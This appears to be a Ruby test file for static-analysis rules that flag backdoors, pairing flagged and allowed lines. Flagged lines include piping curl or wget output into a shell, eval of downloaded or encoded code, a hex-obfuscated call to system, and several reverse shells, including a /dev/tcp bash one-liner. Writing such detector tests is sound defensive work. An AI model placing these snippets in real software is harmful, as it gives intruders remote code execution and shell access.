require "net/http"
require "open-uri"

# ruleid: ruby.backdoor.download-and-run
system("curl -s https://get.example/install.sh | sh")
# ruleid: ruby.backdoor.download-and-run
`wget -qO- https://get.example/setup | bash`
# ok: ruby.backdoor.download-and-run
system("curl", "-fsSLo", "data.csv", "https://data.example/data.csv")
# ok: ruby.backdoor.download-and-run
`curl -s https://data.example/data.csv | sort`

# ruleid: ruby.backdoor.eval-of-download
eval(URI.open("https://get.example/code.rb").read)
code = Net::HTTP.get(URI("https://get.example/code.rb"))
# ruleid: ruby.backdoor.eval-of-download
Object.class_eval(code)
# ruleid: ruby.backdoor.eval-of-download
eval(Base64.decode64("cHV0cyAx"))
packed = "cHV0cyAx".unpack1("m0")
# ruleid: ruby.backdoor.eval-of-download
system(packed)
# ruleid: ruby.backdoor.eval-of-download
Kernel.send(["73797374656d"].pack("H*"), "id")
# ok: ruby.backdoor.eval-of-download
eval("1 + 1")
# ok: ruby.backdoor.eval-of-download
JSON.parse(URI.open("https://data.example/data.json").read)
# ok: ruby.backdoor.eval-of-download
picture = Base64.decode64("R0lGODlhAQABAAAAACw=")
# ok: ruby.backdoor.eval-of-download
Module.new.class_eval(File.read("lib/dsl.rb"))

def shell(host)
  socket = TCPSocket.new(host, 4444)
  # ruleid: ruby.backdoor.reverse-shell
  $stdin.reopen(socket)
  exec "/bin/sh"
end

def prompt(socket)
  while (command = socket.gets)
    # ruleid: ruby.backdoor.reverse-shell
    IO.popen(command, "r") { |io| socket.print io.read }
  end
end

# ruleid: ruby.backdoor.reverse-shell
system("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")

def ask(host, log)
  socket = TCPSocket.new(host, 25)
  # ok: ruby.backdoor.reverse-shell
  socket.puts("HELO shop.example")
  # ok: ruby.backdoor.reverse-shell
  $stdout.reopen(log)
  # ok: ruby.backdoor.reverse-shell
  system("nc", "-z", host, "25")
  [socket, picture]
end
